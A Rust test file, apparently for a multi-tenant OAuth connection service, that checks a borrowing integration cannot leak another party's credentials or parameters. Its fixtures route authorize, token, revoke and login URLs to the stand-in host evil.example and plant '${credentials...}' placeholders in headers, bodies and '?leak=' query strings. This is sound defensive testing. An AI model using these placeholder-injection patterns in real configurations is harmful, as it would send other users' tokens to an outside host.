//! Every type of an option of the borrower's own, and every way out of it.

use http::Method;
use serde_json::{Value, json};
use tests::definitions::{CLIENT_SECRET, merge};
use tests::provider::{REFRESH_TOKEN, Reply, tokens};
use tests::tokens::{WORKSPACE, admin};

use super::{
    CREDENTIAL, PARAMETER, ROOTS, Seen, again, borrowers_world, borrowing, connected, given, issue,
    only_borrowing, put, redefine,
};

/// The places that every option has.
const EVERY_OPTIONS: [&str; 5] =
    ["apiClient/headers/X-Leak", "test/path", "revoke/path", "revoke/headers/X-Leak", "revoke/body/leak"];

/// An option of the borrower's own, all of whose addresses are the borrower's.
fn own_option(kind: &str) -> Value {
    let mut option = json!({
        "key": "own",
        "inputSchema": { "type": "object" },
        "apiClient": { "headers": {} },
        "test": { "path": "/me" },
    });
    let (auth_type, config) = match kind {
        "oauth2" => (
            "oauth2",
            json!({
                "clientId": "mine", "clientSecret": "mine",
                "authorizeUri": "https://evil.example/oauth/authorize",
                "tokenUri": "https://evil.example/oauth/token",
                "refreshUri": "https://evil.example/oauth/token",
                "revocationUri": "https://evil.example/revoke",
            }),
        ),
        "oauth1" => (
            "oauth1",
            json!({
                "consumerKey": "mine", "consumerSecret": "mine",
                "requestTokenUri": "https://evil.example/oauth1/request",
                "authorizeUri": "https://evil.example/oauth1/authorize",
                "tokenUri": "https://evil.example/oauth1/token",
            }),
        ),
        "grant" => (
            "client-credentials",
            json!({
                "clientId": "mine", "clientSecret": "mine",
                "tokenUri": "https://evil.example/oauth/token", "grant": "client_credentials",
            }),
        ),
        "login" => (
            "client-credentials",
            json!({ "login": {
                "uri": "https://evil.example/login", "body": { "a": "b" }, "response": { "value": "value" },
            } }),
        ),
        _ => ("client-credentials", json!({})),
    };
    merge(&mut option, &json!({ "type": auth_type, "config": config }));
    option
}

/// The borrower's integration with this option, and a placeholder in one of its places.
pub(super) fn with_placeholder(kind: &str, place: &str, placeholder: &str) -> Value {
    let mut option = own_option(kind);
    if place.starts_with("revoke/") {
        option["revoke"] = json!({ "path": "/revoke", "perToken": true });
    }
    let mut base = "https://evil.example/api".to_owned();
    if place == "baseUri" {
        base = format!("{base}/{placeholder}");
    } else {
        let at = place.split('/').fold(&mut option, |at, name| &mut at[name]);
        *at = match at.as_str() {
            Some(address) => format!("{address}?leak={placeholder}").into(),
            None => placeholder.into(),
        };
    }
    json!({ "name": "Ours", "baseUri": base, "authOptions": [option, borrowing()] })
}

/// Every place of an option with these of its own.
fn places(own: &[&'static str]) -> Vec<&'static str> {
    own.iter().chain(&EVERY_OPTIONS).copied().chain(["baseUri"]).collect()
}

/// True if the place is filled in before there are credentials: no definition may name any there.
fn is_before_credentials(place: &str) -> bool {
    place.starts_with("config/") && !["config/refreshUri", "config/revocationUri"].contains(&place)
}

/// Each way out of one type of the borrower's own option, for each source of values. The same ways lead out what
/// belongs to that option. Returns how many there are.
async fn walk(kind: &str, own: &[&'static str]) -> usize {
    let world = borrowers_world().await;
    let browser = world.browser();
    let mut walked = 0;
    for (place, (root, value)) in places(own).into_iter().flat_map(|place| ROOTS.map(|root| (place, root))) {
        let what = format!("{kind} {place} {root}");
        let definition = with_placeholder(kind, place, &format!("${{{root}.value}}"));
        if root == "credentials" && is_before_credentials(place) {
            assert_eq!(put(&world, &definition).await.status.as_u16(), 400, "{what}");
            continue;
        }
        let id = connected(&world, &browser).await;
        redefine(&world, &definition).await;
        let mut seen = Seen::from_now_on(&world);
        if walked == 0 {
            seen.use_connection(&world, &id).await;
        }
        seen.go_through(&world, &browser, &again(&id, "own")).await;
        seen.use_connection(&world, &id).await;
        seen.assert_nothing(&world, &what);

        let mut seen = Seen::from_now_on(&world);
        issue(&world, CREDENTIAL);
        let start = given().with(&json!({ "authOptionKey": "own" }));
        let id = seen.go_through(&world, &browser, &start).await.connection_id();
        for (method, way) in
            [(Method::GET, "/proxy/me"), (Method::POST, "/refresh-credentials"), (Method::DELETE, "")]
        {
            world.api(method, &format!("/connections/{id}{way}"), &admin(WORKSPACE), None).await;
        }
        // What is entered for this one is its credentials.
        let value = if kind == "api-key" && root == "credentials" { PARAMETER } else { value };
        assert!(seen.arrived(&world).contains(value), "{what}: what is its own does not arrive");
        walked += 1;
    }
    walked
}

#[tokio::test(start_paused = true)]
async fn an_oauth2_option_of_the_borrowers_gets_at_nothing() {
    let own = ["config/authorizeUri", "config/tokenUri", "config/refreshUri", "config/revocationUri"];
    assert_eq!(walk("oauth2", &own).await, 28);
}

#[tokio::test(start_paused = true)]
async fn an_oauth1_option_of_the_borrowers_gets_at_nothing() {
    let own = ["config/requestTokenUri", "config/authorizeUri", "config/tokenUri"];
    assert_eq!(walk("oauth1", &own).await, 24);
}

#[tokio::test(start_paused = true)]
async fn an_option_of_the_borrowers_that_takes_an_api_key_gets_at_nothing() {
    assert_eq!(walk("api-key", &[]).await, 18);
}

#[tokio::test(start_paused = true)]
async fn a_client_credentials_grant_of_the_borrowers_gets_at_nothing() {
    assert_eq!(walk("grant", &["config/tokenUri", "config/extra/leak"]).await, 22);
}

#[tokio::test(start_paused = true)]
async fn a_login_of_the_borrowers_gets_at_nothing() {
    let own = ["config/login/uri", "config/login/headers/X-Leak", "config/login/body/leak"];
    assert_eq!(walk("login", &own).await, 24);
}

/// What the customer's new connection replaces is revoked at the lender's provider, with the lender's client.
#[tokio::test(start_paused = true)]
async fn what_a_borrowers_option_replaces_is_revoked_where_it_belongs() {
    for start in [None, Some("connectionId")] {
        let world = borrowers_world().await;
        let browser = world.browser();
        let id = connected(&world, &browser).await;
        let mut other = tokens();
        merge(&mut other, &json!({ "access_token": "other", "refresh_token": "other" }));
        world.provider.always("/oauth/token", Reply::json(200, &other));
        redefine(&world, &with_placeholder("oauth2", "revoke/body/leak", "${credentials.refresh_token}"))
            .await;
        let mut own = given().with(&json!({ "authOptionKey": "own" }));
        if let Some(name) = start {
            own.payload[name] = id.into();
        }
        Seen::from_now_on(&world).go_through(&world, &browser, &own).await.assert_connected();
        let revoked = world.provider.calls_to("/revoke");
        assert_eq!(revoked.len(), 1);
        assert_eq!(revoked[0].uri, "https://provider.example/revoke");
        assert_eq!(revoked[0].parameter("token").as_deref(), Some(REFRESH_TOKEN));
        assert_eq!(revoked[0].parameter("client_secret").as_deref(), Some(CLIENT_SECRET));
        assert!(world.provider.calls_to("/api/revoke").is_empty());
    }
}

/// The option changes its kind under its key while a customer is at the provider, in both directions.
#[tokio::test(start_paused = true)]
async fn a_flow_stays_with_the_registration_that_it_was_begun_with() {
    let world = borrowers_world().await;
    let browser = world.browser();
    let mut own = with_placeholder("oauth2", "config/tokenUri", "${parameters.value}");
    own["authOptions"] = json!([own["authOptions"][0]]);
    own["authOptions"][0]["key"] = "shared".into();
    let finish = async |callback: String| {
        let answered = browser.get(&callback).await;
        browser.get(answered.location()).await
    };

    let lent = world.begin(&browser, &given()).await;
    redefine(&world, &own).await;
    finish(lent.consent()).await.assert_connected();
    assert_eq!(world.provider.token_request().uri, "https://provider.example/oauth/token");

    let begun = world.begin(&browser, &given()).await;
    redefine(&world, &only_borrowing()).await;
    assert_eq!(finish(begun.consent()).await.redirected_refusal().key, "configuration_invalid");
    assert_eq!(world.provider.calls_to("/oauth/token").len(), 1);
}
